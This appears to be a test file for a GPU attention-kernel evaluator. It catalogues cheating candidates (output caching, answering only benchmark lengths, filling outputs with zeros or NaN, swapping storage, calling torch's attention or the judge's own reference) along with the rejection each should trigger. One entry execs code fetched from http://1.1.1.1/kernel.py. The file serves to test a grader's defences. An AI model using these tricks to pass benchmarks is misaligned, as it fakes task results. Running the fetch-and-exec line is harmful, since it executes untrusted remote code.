"""Attacks by host code: caches, contents of tensors, outputs that nobody computed, torch's own attention."""

from avo.evaluator.evaluation import Status
from tests.kernels import Attack, around, before, within

CALL = "honest(q, k, v, out, lse, causal=causal, scale=scale)"

CACHES = {
    "output cached by address": Attack(
        around(f"""
seen = set()
def attention(q, k, v, out, lse, *, causal, scale):
    if out.data_ptr() not in seen:
        seen.add(out.data_ptr())
        {CALL}"""),
        Status.UNWRITTEN,
        "never written",
    ),
    "output cached by identity of the argument": Attack(
        around(f"""
kept = []
def attention(q, k, v, out, lse, *, causal, scale):
    if not kept:
        kept.append(q)
        {CALL}"""),
        Status.UNWRITTEN,
        "never written",
    ),
    "output cached by shape": Attack(
        around(f"""
seen = set()
def attention(q, k, v, out, lse, *, causal, scale):
    if q.shape not in seen:
        seen.add(q.shape)
        {CALL}"""),
        Status.UNWRITTEN,
        "square-causal: .*never written",
    ),
    "output cached by a fingerprint of the contents": Attack(
        within("key = float(q.flatten()[:8].sum())"), Status.FORBIDDEN, r"aten\.sum at line \d+"
    ),
    "output cached by one element": Attack(within("key = q[0, 0, 0, 0].item()"), Status.READS_CONTENTS, r"line \d+"),
    "output cached by a hash of the bytes": Attack(
        within("key = hash(q.view(-1).numpy().tobytes())"), Status.READS_CONTENTS, r"numpy"
    ),
    "only some calls answered": Attack(
        around(f"""
calls = []
def attention(q, k, v, out, lse, *, causal, scale):
    calls.append(1)
    if len(calls) % 8 != 7:
        {CALL}"""),
        Status.UNWRITTEN,
        "never written",
    ),
    "preprocessed keys kept between calls": Attack(
        around(f"""
import torch
kept = torch.empty((1 << 20,), dtype=torch.bfloat16, device="cuda")
def attention(q, k, v, out, lse, *, causal, scale):
    kept.zero_()
    {CALL}"""),
        Status.FORBIDDEN,
        "not allocated in this call",
    ),
    "the first call's tensors kept": Attack(
        around("""
kept = []
def attention(q, k, v, out, lse, *, causal, scale):
    kept.append((q, k, v))
    honest(*kept[0], out, lse, causal=causal, scale=scale)"""),
        Status.FORBIDDEN,
        "not allocated in this call",
    ),
    "only the benchmark's lengths answered": Attack(
        around(f"""
def attention(q, k, v, out, lse, *, causal, scale):
    if q.shape[2] >= 4096:
        {CALL}"""),
        Status.UNWRITTEN,
        "square-full: .*never written",
    ),
    "all calls answered together by the last": Attack(
        around("""
waiting = []
def attention(q, k, v, out, lse, *, causal, scale):
    waiting.append((q, k, v, out, lse, causal, scale))
    if len(waiting) == 16:
        for *tensors, causal, scale in waiting:
            honest(*tensors, causal=causal, scale=scale)"""),
        Status.FORBIDDEN,
        "not allocated in this call",
    ),
    "the benchmark's lengths answered by zeros": Attack(
        around(f"""
def attention(q, k, v, out, lse, *, causal, scale):
    if q.shape[2] < 4096:
        return {CALL}
    out.zero_()
    lse.fill_(9.0)"""),
        Status.UNWRITTEN,
        "8k",
    ),
}

OUTPUTS = {
    "memory between the rows filled": Attack(
        within("if out.stride(0) > 2**28:\n    out.as_strided((out.stride(0) * 2,), (1,)).zero_()"),
        Status.OUT_OF_BOUNDS,
        "a fill of 'out' also writes to memory between its rows",
    ),
    "zeros": Attack(
        around("def attention(q, k, v, out, lse, *, causal, scale):\n    out.zero_()\n    lse.zero_()"),
        Status.INCORRECT,
        "square-full: rows",
    ),
    "NaN everywhere": Attack(
        around(
            "def attention(q, k, v, out, lse, *, causal, scale):\n    out.fill_(float('nan'))\n    lse.fill_(float('nan'))"
        ),
        Status.INCORRECT,
        "square-full: .*not finite",
    ),
    "infinity everywhere": Attack(
        around(
            "def attention(q, k, v, out, lse, *, causal, scale):\n    out.fill_(float('inf'))\n    lse.fill_(float('inf'))"
        ),
        Status.INCORRECT,
        "square-full: .*not finite",
    ),
    "an input cleared": Attack(within("v.zero_()"), Status.FORBIDDEN, r"writes to the input 'v' at line \d+"),
    "the output made an input": Attack(within("q = out"), Status.INCORRECT, "read of uninitialised memory.*'out'"),
    "an input given as the output": Attack(within("out = q"), Status.FORBIDDEN, "write to an input.*'q'"),
    "a hidden buffer given as the output": Attack(
        within("import torch\nout = torch.empty_like(out)"), Status.UNWRITTEN, "out were never written"
    ),
    "the output's storage exchanged": Attack(within("out.set_(q)"), Status.FORBIDDEN, "set_"),
    "the output's memory resized": Attack(
        within("out.untyped_storage().resize_(16)"),
        Status.FORBIDDEN,
        "square-full: resizes or exchanges the memory of 'out'",
    ),
    "the output's data exchanged": Attack(within("out.data = q"), Status.FORBIDDEN, "exchanges the memory of 'out'"),
    "a tensor of a lazy class": Attack(
        before("import torch\nclass Lazy(torch.Tensor):\n    def __torch_function__(*a, **k): return None\n").replace(
            "    batch, heads, q_len, head_dim", "    out = out.as_subclass(Lazy)\n    batch, heads, q_len, head_dim"
        ),
        Status.NO_ENTRY,
        r"line \d+",
    ),
    "work put off until somebody looks at the output": Attack(
        around(f"""
def attention(q, k, v, out, lse, *, causal, scale):
    def look(*_):
        {CALL}
        return out
    out.cpu = out.to = out.float = out.double = out.clone = look"""),
        Status.UNWRITTEN,
        "never written",
    ),
    "the output returned instead of written": Attack(
        around(
            "import torch\ndef attention(q, k, v, out, lse, *, causal, scale):\n    return torch.empty_like(out), lse"
        ),
        Status.UNWRITTEN,
        "never written",
    ),
}

LIBRARIES = {
    "torch's attention": Attack(
        within("import torch\ntorch.nn.functional.scaled_dot_product_attention(q, k, v, is_causal=causal)"),
        Status.FORBIDDEN,
        r"computes with torch operator .* at line \d+",
    ),
    "torch's attention, copied": Attack(
        within("import torch.nn.functional as F\nout.copy_(F.scaled_dot_product_attention(q, k, v))\nreturn"),
        Status.FORBIDDEN,
        "computes with torch operator",
    ),
    "torch's attention, in an operator of its own": Attack(
        around("""
import torch
@torch.library.custom_op("mine::attention", mutates_args=("out",))
def attend(q: torch.Tensor, k: torch.Tensor, v: torch.Tensor, out: torch.Tensor, causal: bool) -> None:
    out.copy_(torch.nn.functional.scaled_dot_product_attention(q, k, v, is_causal=causal))
def attention(q, k, v, out, lse, *, causal, scale):
    attend(q, k, v, out, causal)"""),
        Status.FORBIDDEN,
        "aten.scaled_dot_product_attention at line",
    ),
    "torch's attention by an alias, behind a fallback": Attack(
        within(
            "import torch\ntry:\n    getattr(torch.ops.aten, '_scaled_dot_product_flash' + '_attention')(q, k, v)\n"
            "except Exception:\n    pass"
        ),
        Status.FORBIDDEN,
        "computes with torch operator",
    ),
    "a product in torch": Attack(within("out.copy_(q @ k.transpose(-1, -2) @ v)\nreturn"), Status.FORBIDDEN, "aten"),
    "a product in torch, all modes switched off": Attack(
        within(
            "import torch\nfrom torch.utils._python_dispatch import _disable_current_modes\n"
            "with _disable_current_modes(), torch._C.DisableTorchFunction():\n"
            "    out.copy_((q @ k.transpose(-1, -2)) @ v)\n    lse.zero_()\nreturn"
        ),
        Status.UNWRITTEN,
        "out were never written",
    ),
    "the judge's own reference": Attack(
        before(
            "from torch.utils._python_dispatch import _disable_current_modes\nwith _disable_current_modes():\n"
            "    import torch\n    from avo.evaluator.problems.mha import MHA\n    case = MHA.correctness_cases[0]"
        ).replace(
            "    batch, heads, q_len, head_dim",
            "    rows = torch.zeros(1, dtype=torch.int64, device=q.device)\n"
            "    MHA.reference(case, {'q': q.view(-1), 'k': k.view(-1), 'v': v.view(-1)}, 'queries', 0, 0, rows)\n"
            "    batch, heads, q_len, head_dim",
        ),
        Status.FORBIDDEN,
        "computes with torch operator aten",
    ),
    "a CUDA graph": Attack(
        within("import torch\nwith torch.cuda.graph(torch.cuda.CUDAGraph()):\n    pass"), Status.NO_ENTRY, r"line \d+"
    ),
    "a compiled function": Attack(
        within("import torch\ntorch.compile(lambda x: x * 2, backend='eager')(q)"), Status.NO_ENTRY, r"line \d+"
    ),
    "flash-attn": Attack(before("import flash_attn"), Status.PARSE_ERROR, "flash_attn"),
    "a library through ctypes": Attack(
        before("import ctypes\nctypes.CDLL('libcuda.so.1')"), Status.PARSE_ERROR, "libcuda"
    ),
    "a cubin": Attack(
        within("import triton\ntriton.runtime.driver.active.utils.load_binary('k', b'\\x7fELF', 0, 0)"),
        Status.NO_ENTRY,
        r"line \d+",
    ),
    "CUDA's runtime": Attack(
        within("import torch\ntorch.cuda.cudart().cudaCtxResetPersistingL2Cache()"), Status.NO_ENTRY, r"line \d+"
    ),
    "code from the network": Attack(
        before("import urllib.request\nexec(urllib.request.urlopen('http://1.1.1.1/kernel.py', timeout=2).read())"),
        Status.PARSE_ERROR,
        "urlopen error|URLError|Operation not permitted|unreachable",
    ),
    "an extension built from C": Attack(
        before("import subprocess, sys\nsubprocess.run(['cc', '--version'], check=True)"), Status.PARSE_ERROR, "Error: "
    ),
}


def _fickle(amount: str) -> str:
    """Return the seed with a first step whose size is ``amount``, at most a million."""
    return around(f"""
import numpy, os, random, time, torch
calls = []
def attention(q, k, v, out, lse, *, causal, scale):
    calls.append(1)
    torch.zeros(1 + {amount} % 1_000_000, device=q.device)
    {CALL}""")


FICKLE = {
    "a clock": _fickle("time.perf_counter_ns()"),
    "chance": _fickle("random.SystemRandom().getrandbits(62)"),
    "numpy's chance": _fickle("int(numpy.random.randint(1_000_000))"),
    "the process": _fickle("os.getpid()"),
    "the calls before it": _fickle("len(calls)"),
    "the processor time used": _fickle("time.process_time_ns()"),
}
"""Candidates that launch something else each time, by what it depends on."""
_AGAIN = {
    f"what {name} says": Attack(source, Status.FORBIDDEN, "^launches other plans when it is called again")
    for name, source in FICKLE.items()
}

ATTACKS = CACHES | OUTPUTS | LIBRARIES | _AGAIN
